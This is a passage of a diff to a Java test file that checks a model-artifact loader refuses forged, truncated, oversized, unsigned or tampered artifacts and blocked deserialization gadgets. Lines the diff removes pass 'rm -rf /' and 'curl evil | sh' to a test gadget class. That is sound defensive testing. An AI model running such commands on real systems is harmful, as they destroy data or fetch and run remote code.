@@ -3,313 +3,436 @@ package io.vigil.models.model;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
-import io.vigil.models.detectors.JobDetector;
+import com.sun.management.ThreadMXBean;
+import io.vigil.models.detectors.CategoryDetector;
+import io.vigil.models.detectors.FleetDetector;
 import io.vigil.models.features.FeatureSet;
 import io.vigil.models.hostile.Gadget;
-import io.vigil.models.model.ModelArtifact.Header;
-import io.vigil.models.model.ModelArtifact.Opened;
 import io.vigil.models.model.ModelArtifact.Refusal;
 import io.vigil.models.model.ModelArtifact.RefusedException;
-import io.vigil.models.scoring.JobHistory;
-import java.io.RandomAccessFile;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectOutputStream;
 import java.io.Serializable;
+import java.lang.management.ManagementFactory;
+import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
-import java.util.ArrayList;
+import java.nio.file.StandardOpenOption;
+import java.nio.file.attribute.PosixFilePermission;
+import java.security.MessageDigest;
+import java.security.PrivateKey;
+import java.security.PublicKey;
 import java.util.Arrays;
+import java.util.HashMap;
+import java.util.HashSet;
+import java.util.HexFormat;
 import java.util.List;
-import java.util.Map;
-import java.util.Random;
-import java.util.SortedMap;
+import java.util.Set;
 import java.util.TreeMap;
-import java.util.concurrent.ConcurrentHashMap;
-import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
+import java.util.function.UnaryOperator;
+import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-import smile.anomaly.IsolationForest;
-import smile.classification.RandomForest;
-import smile.data.DataFrame;
-import smile.data.formula.Formula;
-import smile.data.vector.IntVector;
 
 /**
- * The artifact's format and every refusal, with an arbitrary serializable payload standing in for a
- * model (a {@link JobDetector}: it lives in a model package, as a model's parts do).
+ * The artifact's frame, its signature and every refusal, with forged artifacts of both the old (Java
+ * serialization) framing and the new format. Each hostile artifact must be refused with its reason, with no
+ * other exception escaping and without allocating much more than the artifact's own size.
  */
 class ModelArtifactTest {
-    private static final FeatureSet V1 = FeatureSet.V1;
-    private static final String KIND = "vigil-ensemble/1";
+    private static final FeatureSet V1 = FeatureSet.CURRENT;
+    private static final ModelTrust UNSIGNED_ALLOWED = ModelArtifactRoundTripTest.UNSIGNED_ALLOWED;
+    /** What loading a hostile artifact may allocate beyond nothing: a small multiple of a small model. */
+    private static final long SMALL_ALLOCATION = 8L * 1024 * 1024;
 
-    private final JobDetector detector = JobDetector.fit(V1, new double[0][]);
+    private static VigilModel model;
+    private static byte[] artifact;
 
-    private static SortedMap<String, Object> training() {
-        SortedMap<String, Object> training = new TreeMap<>();
-        training.put("windows", 12345);
-        training.put("datasets", List.of("baseline-small", "rome-2026-02"));
-        training.put("positives", new TreeMap<>(Map.of("CRYPTO_MINING", 40, "NETWORK_SCAN", 12)));
-        training.put("seed", 7);
-        return training;
+    @BeforeAll
+    static void build() {
+        model = ModelArtifactRoundTripTest.model();
+        artifact = ModelArtifact.toBytes(model);
     }
 
-    private static SortedMap<String, Object> metrics() {
-        return new TreeMap<>(Map.of("pr_auc", 0.83, "false_alerts_per_100_job_hours", 1.5));
-    }
-
-    private static Header header(FeatureSet featureSet, String kind, byte[] payload) {
-        return Header.describing(featureSet, kind, "ensemble-20260301-abc", 0.62, training(), metrics(), payload);
-    }
-
-    private static byte[] artifact(Serializable payload) {
-        byte[] bytes = ModelArtifact.serialize(payload);
-        return ModelArtifact.encode(header(V1, KIND, bytes), bytes);
-    }
-
-    private static void refused(ThrowingCallable load, Refusal refusal, String message) {
-        assertThatThrownBy(load).isInstanceOf(RefusedException.class)
-                .hasMessage(message)
-                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(refusal));
-    }
-
-    private static void refusedContaining(ThrowingCallable load, Refusal refusal, String message) {
-        assertThatThrownBy(load).isInstanceOf(RefusedException.class)
-                .hasMessageContaining(message)
-                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(refusal));
-    }
-
-    // ---- format ----
-
-    @Test
-    void opensWhatItWrote() throws Exception {
-        Opened opened = ModelArtifact.open(artifact(detector), V1);
-        assertThat(opened.payload()).isInstanceOf(JobDetector.class);
-        JobDetector loaded = (JobDetector) opened.payload();
-        assertThat(loaded.scaleFloors()).containsExactly(detector.scaleFloors());
-        assertThat(loaded.settings()).isEqualTo(detector.settings());
-        assertThat(opened.header().kind()).isEqualTo(KIND);
-        assertThat(opened.header().threshold()).isEqualTo(0.62);
-        assertThat(opened.header().training()).containsEntry("windows", 12345).containsKey("positives");
-        assertThat(opened.header().metrics()).containsEntry("pr_auc", 0.83);
-    }
-
-    @Test
-    void writesAMagicLineAndOneLineOfHeaderWithSortedKeys() {
-        byte[] bytes = artifact(detector);
-        String text = new String(bytes, StandardCharsets.ISO_8859_1);
-        String[] lines = text.split("\n", 3);
-        assertThat(lines[0]).isEqualTo("VIGIL-MODEL 1");
-        assertThat(lines[1]).startsWith("{\"feature_set\":\"" + V1.id() + "\",\"feature_set_hash\":\"" + V1.hash()
-                        + "\",\"feature_set_version\":\"v1\",\"kind\":\"vigil-ensemble/1\","
-                        + "\"metrics\":{\"false_alerts_per_100_job_hours\":1.5,\"pr_auc\":0.83},"
-                        + "\"model_version\":\"ensemble-20260301-abc\",\"payload_bytes\":")
-                .contains(",\"threshold\":0.62,\"training\":{\"datasets\":[\"baseline-small\",\"rome-2026-02\"],"
-                        + "\"positives\":{\"CRYPTO_MINING\":40,\"NETWORK_SCAN\":12},\"seed\":7,\"windows\":12345}}");
-    }
-
-    @Test
-    void writesTheSameBytesForTheSameModel() {
-        assertThat(artifact(detector)).isEqualTo(artifact(detector));
-        assertThat(artifact(detector)).isEqualTo(artifact(JobDetector.fit(V1, new double[0][])));
-    }
-
-    @Test
-    void readsTheHeaderWithoutThePayload() throws Exception {
-        byte[] bytes = artifact(detector);
-        byte[] damaged = bytes.clone();
-        damaged[damaged.length - 1] ^= 1;
-        Header header = ModelArtifact.readHeader(damaged);
-        assertThat(header.featureSetId()).isEqualTo(V1.id());
-        assertThat(header.modelVersion()).isEqualTo("ensemble-20260301-abc");
-        assertThat(header.payloadSha256()).hasSize(64);
-    }
-
-    // ---- every refusal ----
-
-    @Test
-    void refusesWhatIsNotAnArtifact() {
-        refused(() -> ModelArtifact.open(new byte[0], V1), Refusal.BAD_FORMAT, "artifact is empty");
-        refused(() -> ModelArtifact.open(new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0}, V1), Refusal.BAD_FORMAT,
-                "not a Vigil model artifact: it starts with \"PK\\x03\\x04\\x14\\x00\\x00\\x00\", an artifact with \"VIGIL-MODEL 1\\n\"");
-        refused(() -> ModelArtifact.open("VIGIL-MODEL one\n{}\n".getBytes(StandardCharsets.US_ASCII), V1),
-                Refusal.BAD_FORMAT, "artifact format version 'one' is not a number");
-    }
-
-    @Test
-    void refusesAnotherFormatVersion() {
-        byte[] bytes = artifact(detector);
-        bytes["VIGIL-MODEL ".length()] = '2';
-        refused(() -> ModelArtifact.open(bytes, V1), Refusal.UNSUPPORTED_FORMAT_VERSION,
-                "artifact format version 2, this build reads version 1");
-    }
-
-    @Test
-    void refusesAHeaderThatIsNotJsonOrLacksAField() {
-        refusedContaining(() -> ModelArtifact.open("VIGIL-MODEL 1\n{\"kind\": \n".getBytes(StandardCharsets.US_ASCII), V1),
-                Refusal.BAD_FORMAT, "artifact header is not JSON: ");
-        refused(() -> ModelArtifact.open("VIGIL-MODEL 1\n[1, 2]\n".getBytes(StandardCharsets.US_ASCII), V1),
-                Refusal.BAD_FORMAT, "artifact header is not a JSON object");
-        refused(() -> ModelArtifact.open("VIGIL-MODEL 1\n{\"kind\": \"x\"}".getBytes(StandardCharsets.US_ASCII), V1),
-                Refusal.BAD_FORMAT, "artifact header is not one line ended by a newline within 1048576 bytes");
-        String header = new String(artifact(detector), StandardCharsets.ISO_8859_1).split("\n")[1];
-        byte[] noThreshold = ("VIGIL-MODEL 1\n" + header.replace("\"threshold\":0.62", "\"threshold\":\"high\"") + "\n")
-                .getBytes(StandardCharsets.ISO_8859_1);
-        refused(() -> ModelArtifact.open(noThreshold, V1), Refusal.BAD_FORMAT,
-                "artifact header needs 'threshold' as a number in [0, 1]");
-        byte[] oddId = ("VIGIL-MODEL 1\n" + header.replace("\"feature_set\":\"" + V1.id(), "\"feature_set\":\"v9-00000000") + "\n")
-                .getBytes(StandardCharsets.ISO_8859_1);
-        refused(() -> ModelArtifact.open(oddId, V1), Refusal.BAD_FORMAT,
-                "artifact header names feature set 'v9-00000000' but version and hash make '" + V1.id() + "'");
-    }
-
-    @Test
-    void refusesAnUnknownKind() {
-        byte[] payload = ModelArtifact.serialize(detector);
-        byte[] bytes = ModelArtifact.encode(header(V1, "random-forest/9", payload), payload);
-        refused(() -> ModelArtifact.open(bytes, V1), Refusal.UNKNOWN_KIND,
-                "model kind 'random-forest/9' is not one this build loads: [vigil-ensemble/1]");
-    }
-
-    @Test
-    void refusesAModelOfAnotherFeatureSetNamingBoth() {
-        FeatureSet v2 = FeatureSet.of("v2", List.of(new FeatureSet.Feature("flows", "log1p(flows)")));
-        byte[] payload = ModelArtifact.serialize(detector);
-        byte[] bytes = ModelArtifact.encode(header(v2, KIND, payload), payload);
-        refused(() -> ModelArtifact.open(bytes, V1), Refusal.FEATURE_SET_MISMATCH,
-                "model reads feature set " + v2.id() + ", the pipeline computes " + V1.id());
-        // Same version, other names: the hash tells them apart.
-        FeatureSet otherV1 = FeatureSet.of("v1", List.of(new FeatureSet.Feature("flows", "log1p(flows)")));
-        byte[] sameVersion = ModelArtifact.encode(header(otherV1, KIND, payload), payload);
-        refused(() -> ModelArtifact.open(sameVersion, V1), Refusal.FEATURE_SET_MISMATCH,
-                "model reads feature set " + otherV1.id() + ", the pipeline computes " + V1.id());
-    }
-
-    @Test
-    void refusesADamagedOrTruncatedPayloadBeforeReadingIt() {
-        byte[] bytes = artifact(detector);
-        byte[] flipped = bytes.clone();
-        flipped[flipped.length - 10] ^= 0x40;
-        refusedContaining(() -> ModelArtifact.open(flipped, V1), Refusal.CHECKSUM_MISMATCH, "payload SHA-256 is ");
-        byte[] truncated = Arrays.copyOf(bytes, bytes.length - 100);
-        int payloadBytes = ModelArtifact.serialize(detector).length;
-        refused(() -> ModelArtifact.open(truncated, V1), Refusal.CHECKSUM_MISMATCH,
-                "payload is " + (payloadBytes - 100) + " bytes, the header says " + payloadBytes);
-    }
-
-    @Test
-    void refusesAPayloadThatIsNotJavaSerialization() {
-        byte[] payload = "not a model".getBytes(StandardCharsets.US_ASCII);
-        byte[] bytes = ModelArtifact.encode(header(V1, KIND, payload), payload);
-        refusedContaining(() -> ModelArtifact.open(bytes, V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload does not deserialize: java.io.StreamCorruptedException");
-    }
-
-    @Test
-    void refusesAClassOutsideTheAllowListWithoutRunningIt() {
-        int reads = Gadget.READS.get();
-        refused(() -> ModelArtifact.open(artifact(new Gadget("rm -rf /")), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload refused: class io.vigil.models.hostile.Gadget is not one a model is made of");
-        ArrayList<Object> hidden = new ArrayList<>(List.of("harmless", new Gadget("curl evil | sh")));
-        refused(() -> ModelArtifact.open(artifact(hidden), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload refused: class io.vigil.models.hostile.Gadget is not one a model is made of");
-        assertThat(Gadget.READS.get()).as("Gadget.readObject calls").isEqualTo(reads);
-        refused(() -> ModelArtifact.open(artifact(new ConcurrentHashMap<>(Map.of("a", 1))), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload refused: class java.util.concurrent.ConcurrentHashMap is not one a model is made of");
-    }
-
-    @Test
-    void refusesObjectsNestedDeeperThanAnyModel() {
-        ArrayList<Object> nested = new ArrayList<>();
-        ArrayList<Object> inner = nested;
-        for (int depth = 0; depth < PayloadFilter.MAX_DEPTH + 10; depth++) {
-            ArrayList<Object> next = new ArrayList<>();
-            inner.add(next);
-            inner = next;
+    /** Refused with this reason and a message containing {@code message}, allocating little. */
+    private static void refused(byte[] bytes, ModelTrust trust, Refusal refusal, String message) {
+        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
+        long before = threads.getCurrentThreadAllocatedBytes();
+        long started = System.nanoTime();
+        RefusedException refused = null;
+        try {
+            ModelArtifact.load(bytes, V1, trust);
+        } catch (RefusedException e) {
+            refused = e;
         }
-        refusedContaining(() -> ModelArtifact.open(artifact(nested), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload refused: objects nest 201 deep, at most 200");
+        long micros = (System.nanoTime() - started) / 1000;
+        long allocated = threads.getCurrentThreadAllocatedBytes() - before;
+        assertThat(refused).as("refused").isNotNull();
+        assertThat(refused.refusal()).as(refused.getMessage()).isEqualTo(refusal);
+        assertThat(refused.getMessage()).contains(message);
+        assertThat(allocated).as("bytes allocated while refusing").isLessThan(SMALL_ALLOCATION + 2L * bytes.length);
+        System.out.printf("refused %d-byte artifact in %d us, %d bytes allocated: %s: %s%n", bytes.length, micros,
+                allocated, refusal.code(), refused.getMessage());
     }
 
-    @Test
-    void refusesADetectorThatFitCouldNotHaveMade() throws Exception {
-        JobDetector forged = JobDetector.fit(V1, new double[0][]);
-        java.lang.reflect.Field floors = JobDetector.class.getDeclaredField("scaleFloors");
-        floors.setAccessible(true);
-        floors.set(forged, new double[V1.size()]);
-        refused(() -> ModelArtifact.open(artifact(forged), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload does not deserialize: java.io.InvalidObjectException: job detector has a scale floor of 0.0");
-        floors.set(forged, new double[] {1});
-        refused(() -> ModelArtifact.open(artifact(forged), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload does not deserialize: java.io.InvalidObjectException: job detector has 1 scale floors for the 30 features of "
-                        + V1.id());
+    private static void refused(byte[] bytes, Refusal refusal, String message) {
+        refused(bytes, UNSIGNED_ALLOWED, refusal, message);
     }
 
-    @Test
-    void refusesAPayloadThatIsNotAModel() {
-        refused(() -> ModelArtifact.fromBytes(artifact(detector), V1), Refusal.UNREADABLE_PAYLOAD,
-                "payload is a io.vigil.models.detectors.JobDetector, not a io.vigil.models.model.VigilModel");
+    /** A body forged from the model's parts, framed with a correct checksum. */
+    private static byte[] forged(UnaryOperator<ModelFormat.Parts> change) {
+        return ModelArtifact.framed(ModelFormat.write(change.apply(ModelFormat.Parts.of(model))));
     }
 
-    @Test
-    void refusesAModelThatDisagreesWithItsHeader() throws Exception {
-        byte[] payload = ModelArtifact.serialize(detector);
-        Header header = header(V1, KIND, payload);
-        ModelArtifact.checkAgrees(header, V1, KIND, "ensemble-20260301-abc", 0.62);
-        refused(() -> ModelArtifact.checkAgrees(header, V1, KIND, "ensemble-20260301-abc", 0.5), Refusal.UNREADABLE_PAYLOAD,
-                "payload's model has threshold 0.5, the header says 0.62");
-        refused(() -> ModelArtifact.checkAgrees(header, V1, KIND, "other", 0.62), Refusal.UNREADABLE_PAYLOAD,
-                "payload's model has version other, the header says ensemble-20260301-abc");
-        refused(() -> ModelArtifact.checkAgrees(header, V1, "vigil-ensemble/2", "ensemble-20260301-abc", 0.62),
-                Refusal.UNREADABLE_PAYLOAD, "payload's model has kind vigil-ensemble/2, the header says vigil-ensemble/1");
-        FeatureSet v2 = FeatureSet.of("v2", List.of(new FeatureSet.Feature("flows", "log1p(flows)")));
-        refused(() -> ModelArtifact.checkAgrees(header, v2, KIND, "ensemble-20260301-abc", 0.62), Refusal.UNREADABLE_PAYLOAD,
-                "payload's model has feature set " + v2.id() + ", the header says " + V1.id());
+    private static ModelFormat.Parts withFleet(ModelFormat.Parts p, FleetDetector.Forest fleet) {
+        return new ModelFormat.Parts(p.kind(), p.modelVersion(), p.featureSetVersion(), p.featureSetHash(), p.features(),
+                p.threshold(), p.training(), p.metrics(), fleet, p.jobSettings(), p.jobScaleFloors(), p.supervised(),
+                p.calibration());
     }
 
-    @Test
-    void refusesArtifactsOverTheSizeLimit(@TempDir Path dir) throws Exception {
-        Path big = dir.resolve("big.model");
-        try (RandomAccessFile file = new RandomAccessFile(big.toFile(), "rw")) {
-            file.setLength(ModelArtifact.MAX_BYTES + 1); // sparse: nothing is written or read
+    private static ModelFormat.Parts withSupervised(ModelFormat.Parts p, CategoryDetector.Forest supervised) {
+        return new ModelFormat.Parts(p.kind(), p.modelVersion(), p.featureSetVersion(), p.featureSetHash(), p.features(),
+                p.threshold(), p.training(), p.metrics(), p.fleet(), p.jobSettings(), p.jobScaleFloors(), supervised,
+                p.calibration());
+    }
+
+    /** The artifact's body rewritten and the checksum recomputed, as an attacker who can write the file would. */
+    private static byte[] rechecksummed(byte[] bytes) {
+        byte[] out = bytes.clone();
+        int bodyLength = ByteBuffer.wrap(out, 14, 4).getInt();
+        byte[] digest = sha256(Arrays.copyOfRange(out, 18, 18 + bodyLength));
+        System.arraycopy(digest, 0, out, 18 + bodyLength, digest.length);
+        return out;
+    }
+
+    private static byte[] sha256(byte[] bytes) {
+        try {
+            return MessageDigest.getInstance("SHA-256").digest(bytes);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
         }
-        refused(() -> ModelArtifact.read(big, V1), Refusal.TOO_LARGE,
-                "artifact is 67108865 bytes, at most 67108864 are read");
-        byte[] bytes = new byte[(int) ModelArtifact.MAX_BYTES + 1];
-        refused(() -> ModelArtifact.fromBytes(bytes, V1), Refusal.TOO_LARGE,
-                "artifact is 67108865 bytes, at most 67108864 are read");
+    }
+
+    private static int indexOf(byte[] haystack, byte[] needle) {
+        for (int i = 0; i + needle.length <= haystack.length; i++) {
+            if (Arrays.equals(haystack, i, i + needle.length, needle, 0, needle.length)) {
+                return i;
+            }
+        }
+        throw new AssertionError("not found");
+    }
+
+    // ---- what loads ----
+
+    @Test
+    void loadsWhatItWroteAndWritesTheSameBytesAgain() throws Exception {
+        VigilModel loaded = ModelArtifact.load(artifact, V1, UNSIGNED_ALLOWED);
+        assertThat(loaded.modelVersion()).isEqualTo(model.modelVersion());
+        assertThat(ModelArtifact.toBytes(loaded)).isEqualTo(artifact);
+    }
+
+    @Test
+    void readsAFileOnlyUpToItsSizeLimit(@TempDir Path dir) throws Exception {
+        Path file = dir.resolve("model.vigil");
+        ModelArtifact.write(model, file);
+        assertThat(ModelArtifact.load(file, V1, UNSIGNED_ALLOWED).modelVersion()).isEqualTo(model.modelVersion());
+        try (var out = Files.newByteChannel(file, StandardOpenOption.WRITE)) {
+            out.position(ModelArtifact.MAX_BYTES);
+            out.write(ByteBuffer.wrap(new byte[] {1}));
+        }
+        assertThatThrownBy(() -> ModelArtifact.load(file, V1, UNSIGNED_ALLOWED)).isInstanceOf(RefusedException.class)
+                .hasMessageContaining("at most " + ModelArtifact.MAX_BYTES)
+                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(Refusal.TOO_LARGE));
+        assertThatThrownBy(() -> ModelArtifact.load(dir.resolve("absent"), V1, UNSIGNED_ALLOWED))
+                .isInstanceOf(RefusedException.class).hasMessageContaining("no model file")
+                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(Refusal.NOT_FOUND));
+    }
+
+    // ---- signatures ----
+
+    @Test
+    void acceptsOnlyReleasesSignedByATrustedKeyUnlessUnsignedAreAllowed(@TempDir Path dir) throws Exception {
+        String id = ModelSigning.generate(dir.resolve("release.key"), dir.resolve("release.pub"));
+        ModelSigning.generate(dir.resolve("other.key"), dir.resolve("other.pub"));
+        assertThat(Files.readString(dir.resolve("release.key"))).startsWith("-----BEGIN PRIVATE KEY-----\n");
+        assertThat(Files.readString(dir.resolve("release.pub"))).startsWith("-----BEGIN PUBLIC KEY-----\n");
+        assertThat(Files.getPosixFilePermissions(dir.resolve("release.key")))
+                .containsExactlyInAnyOrder(PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE);
+        assertThatThrownBy(() -> ModelSigning.generate(dir.resolve("release.key"), dir.resolve("x.pub")))
+                .isInstanceOf(IOException.class);
+
+        PrivateKey key = ModelSigning.readPrivateKey(dir.resolve("release.key"));
+        PublicKey pub = ModelSigning.readPublicKey(dir.resolve("release.pub"));
+        PrivateKey otherKey = ModelSigning.readPrivateKey(dir.resolve("other.key"));
+        PublicKey otherPub = ModelSigning.readPublicKey(dir.resolve("other.pub"));
+        ModelTrust trusted = ModelTrust.fromFiles(List.of(dir.resolve("release.pub")), false);
+
+        byte[] signed = ModelArtifact.sign(artifact, key, pub);
+        assertThat(ModelArtifact.signer(signed)).isEqualTo(id);
+        assertThat(ModelArtifact.load(signed, V1, trusted).modelVersion()).isEqualTo(model.modelVersion());
+        assertThat(ModelArtifact.sign(signed, key, pub)).as("signing again replaces the signature").isEqualTo(signed);
+
+        refused(artifact, trusted, Refusal.UNSIGNED, "model is not signed");
+        refused(ModelArtifact.sign(artifact, otherKey, otherPub), trusted, Refusal.UNTRUSTED_KEY,
+                "not among the trusted public keys");
+        assertThatThrownBy(() -> ModelArtifact.sign(artifact, key, otherPub)).isInstanceOf(IllegalArgumentException.class);
+
+        // the body changed after signing, checksum recomputed: the signature gives it away, whatever the policy
+        byte[] tampered = signed.clone();
+        int at = indexOf(tampered, "vigil-test-0001".getBytes(StandardCharsets.UTF_8));
+        tampered[at + 14] = '2';
+        tampered = rechecksummed(tampered);
+        refused(tampered, trusted, Refusal.BAD_SIGNATURE, "does not verify");
+        refused(tampered, ModelTrust.fromFiles(List.of(dir.resolve("release.pub")), true), Refusal.BAD_SIGNATURE,
+                "does not verify");
+
+        ModelTrust lenient = ModelTrust.fromFiles(List.of(dir.resolve("release.pub")), true);
+        assertThat(ModelArtifact.load(artifact, V1, lenient).modelVersion()).isEqualTo(model.modelVersion());
+        assertThat(ModelArtifact.load(artifact, V1, ModelTrust.BUILT_IN).modelVersion()).isEqualTo(model.modelVersion());
+    }
+
+    // ---- the frame ----
+
+    @Test
+    void refusesWhatIsNotAnArtifactAndOtherFormatVersions() {
+        refused(new byte[0], Refusal.BAD_FORMAT, "artifact is empty");
+        refused("PK\u0003\u0004 a zip".getBytes(StandardCharsets.ISO_8859_1), Refusal.BAD_FORMAT,
+                "not a Vigil model artifact: it starts with \"PK\\x03\\x04 a zip\"");
+        refused("VIGIL-MODEL x\n".getBytes(StandardCharsets.US_ASCII), Refusal.BAD_FORMAT, "is not a number");
+        refused("VIGIL-MODEL 3\n".getBytes(StandardCharsets.US_ASCII), Refusal.UNSUPPORTED_FORMAT_VERSION,
+                "artifact format version 3, this build reads version 2");
+    }
+
+    @Test
+    void refusesATruncatedArtifactAtEveryLength() {
+        for (int length = 0; length < artifact.length; length += length < 64 ? 1 : 997) {
+            byte[] cut = Arrays.copyOf(artifact, length);
+            assertThatThrownBy(() -> ModelArtifact.load(cut, V1, UNSIGNED_ALLOWED)).isInstanceOf(RefusedException.class)
+                    .satisfies(e -> assertThat(((RefusedException) e).refusal())
+                            .isIn(Refusal.BAD_FORMAT, Refusal.CHECKSUM_MISMATCH));
+        }
+        refused(Arrays.copyOf(artifact, artifact.length / 2), Refusal.BAD_FORMAT, "truncated");
+    }
+
+    @Test
+    void refusesAGiantDeclaredBodyWithoutAllocatingIt() {
+        byte[] giant = artifact.clone();
+        ByteBuffer.wrap(giant, 14, 4).putInt(-1); // 4 GiB - 1
+        refused(giant, Refusal.BAD_FORMAT, "declares a body of 4294967295 bytes");
+    }
+
+    @Test
+    void refusesADamagedBodyByItsChecksumAndBytesAfterTheEnd() {
+        byte[] damaged = artifact.clone();
+        damaged[100] ^= 1;
+        refused(damaged, Refusal.CHECKSUM_MISMATCH, "body SHA-256 is");
+        byte[] longer = Arrays.copyOf(artifact, artifact.length + 3);
+        refused(longer, Refusal.BAD_FORMAT, "bytes after its body");
+    }
+
+    // ---- forged bodies of the new format ----
+
+    @Test
+    void refusesAnUnknownKindOrAnotherFeatureSet() {
+        refused(forged(p -> new ModelFormat.Parts("vigil-ensemble/9", p.modelVersion(), p.featureSetVersion(),
+                p.featureSetHash(), p.features(), p.threshold(), p.training(), p.metrics(), p.fleet(), p.jobSettings(),
+                p.jobScaleFloors(), p.supervised(), p.calibration())), Refusal.UNKNOWN_KIND, "vigil-ensemble/9");
+        refused(forged(p -> new ModelFormat.Parts(p.kind(), p.modelVersion(), "v9", "0000", p.features(), p.threshold(),
+                p.training(), p.metrics(), p.fleet(), p.jobSettings(), p.jobScaleFloors(), p.supervised(),
+                p.calibration())), Refusal.FEATURE_SET_MISMATCH, "model reads feature set v9-0000 (30 features), the"
+                        + " pipeline computes " + V1.id());
+    }
+
+    @Test
+    void refusesANaNThresholdOrCut() {
+        refused(forged(p -> new ModelFormat.Parts(p.kind(), p.modelVersion(), p.featureSetVersion(), p.featureSetHash(),
+                p.features(), Double.NaN, p.training(), p.metrics(), p.fleet(), p.jobSettings(), p.jobScaleFloors(),
+                p.supervised(), p.calibration())), Refusal.BAD_MODEL, "threshold is NaN, not a finite number");
+        refused(forged(p -> {
+            FleetDetector.Forest f = p.fleet();
+            double[] cut = f.cut().clone();
+            cut[0] = Double.NaN;
+            return withFleet(p, new FleetDetector.Forest(f.median(), f.scale(), f.averagePath(), f.roots(), f.feature(),
+                    f.right(), cut, f.low(), f.high()));
+        }), Refusal.BAD_MODEL, "fleet node 0 cut is NaN");
+    }
+
+    @Test
+    void refusesBadLengths() {
+        refused(forged(p -> {
+            FleetDetector.Forest f = p.fleet();
+            return withFleet(p, new FleetDetector.Forest(Arrays.copyOf(f.median(), 29), f.scale(), f.averagePath(),
+                    f.roots(), f.feature(), f.right(), f.cut(), f.low(), f.high()));
+        }), Refusal.BAD_MODEL, "fleet medians: 29 values, expected 30");
+        refused(forged(p -> new ModelFormat.Parts(p.kind(), p.modelVersion(), p.featureSetVersion(), p.featureSetHash(),
+                p.features(), p.threshold(), p.training(), p.metrics(), p.fleet(), p.jobSettings(),
+                new double[31], p.supervised(), p.calibration())), Refusal.BAD_MODEL,
+                "per-job scale floors: 31 values, expected 30");
+    }
+
+    @Test
+    void refusesAChildIndexOutOfRangeOrBeforeItsParent() {
+        CategoryDetector.Forest s = model.supervised().forest();
+        int split = 0;
+        while (s.feature()[split] < 0) {
+            split++;
+        }
+        int at = split;
+        refused(forged(p -> {
+            int[] left = s.left().clone();
+            left[at] = 1_000_000;
+            return withSupervised(p, new CategoryDetector.Forest(s.width(), s.categories(), s.roots(), s.feature(),
+                    s.split(), left, s.right(), s.shares()));
+        }), Refusal.BAD_MODEL, "supervised node " + at + " left child is 1000000, outside");
+        // a cycle: the right child of a split points back at its tree's root
+        refused(forged(p -> {
+            int[] right = s.right().clone();
+            right[at] = s.roots()[0];
+            return withSupervised(p, new CategoryDetector.Forest(s.width(), s.categories(), s.roots(), s.feature(),
+                    s.split(), s.left(), right, s.shares()));
+        }), Refusal.BAD_MODEL, "right child is " + s.roots()[0]);
+        // a cycle in the fleet: a split's right child is itself
+        FleetDetector.Forest f = model.fleet().forest();
+        refused(forged(p -> {
+            int[] right = f.right().clone();
+            right[0] = 0;
+            return withFleet(p, new FleetDetector.Forest(f.median(), f.scale(), f.averagePath(), f.roots(), f.feature(),
+                    right, f.cut(), f.low(), f.high()));
+        }), Refusal.BAD_MODEL, "fleet node 0 right child is 0, outside");
+        // a child in the next tree: in range for the file, not for its tree
+        refused(forged(p -> {
+            int[] right = f.right().clone();
+            right[0] = f.roots()[1];
+            return withFleet(p, new FleetDetector.Forest(f.median(), f.scale(), f.averagePath(), f.roots(), f.feature(),
+                    right, f.cut(), f.low(), f.high()));
+        }), Refusal.BAD_MODEL, "not after it within nodes 0 to " + f.roots()[1]);
+    }
+
+    @Test
+    void refusesAGiantNodeCountBeforeAllocatingForIt() {
+        // a fleet of one leaf whose path length marks where the node count lies
+        double marker = 12345.678901;
+        byte[] bytes = forged(p -> withFleet(p, new FleetDetector.Forest(p.fleet().median(), p.fleet().scale(),
+                p.fleet().averagePath(), new int[] {0}, new int[] {-1}, new int[] {-1}, new double[] {marker},
+                new float[1], new float[1])));
+        byte[] markerBytes = ByteBuffer.allocate(8).putDouble(marker).array();
+        int count = indexOf(bytes, markerBytes) - 8;
+        ByteBuffer.wrap(bytes, count, 4).putInt(Integer.MAX_VALUE);
+        refused(rechecksummed(bytes), Refusal.BAD_FORMAT, "fleet nodes: a count of 2147483647, at most 4000000");
+        ByteBuffer.wrap(bytes, count, 4).putInt(3_999_999);
+        refused(rechecksummed(bytes), Refusal.BAD_FORMAT, "fleet nodes needs 47999988 bytes");
+    }
+
+    @Test
+    void refusesAModelWithARequiredPartEmpty() {
+        // the new format's "supervised = null": categories to name, but no trees to name them
+        CategoryDetector.Forest s = model.supervised().forest();
+        refused(forged(p -> withSupervised(p, new CategoryDetector.Forest(s.width(), s.categories(), new int[0],
+                new int[0], new double[0], new int[0], new int[0], new double[0]))), Refusal.BAD_MODEL,
+                "supervised model: 0 trees for 1 categories");
+        FleetDetector.Forest f = model.fleet().forest();
+        refused(forged(p -> withFleet(p, new FleetDetector.Forest(f.median(), f.scale(), f.averagePath(), new int[0],
+                new int[0], new int[0], new double[0], new float[0], new float[0]))), Refusal.BAD_MODEL,
+                "fleet model: no tree");
+    }
+
+    // ---- the old, Java-serialization framing: never deserialized ----
+
+    /** The format-1 framing: magic line, one line of JSON header with the payload's real SHA-256, the payload. */
+    private static byte[] formatOne(Serializable payload) {
+        byte[] bytes = serialized(payload);
+        String header = "{\"feature_set\":\"" + V1.id() + "\",\"feature_set_hash\":\"" + V1.hash()
+                + "\",\"feature_set_version\":\"" + V1.version() + "\",\"kind\":\"vigil-ensemble/1\",\"metrics\":{},"
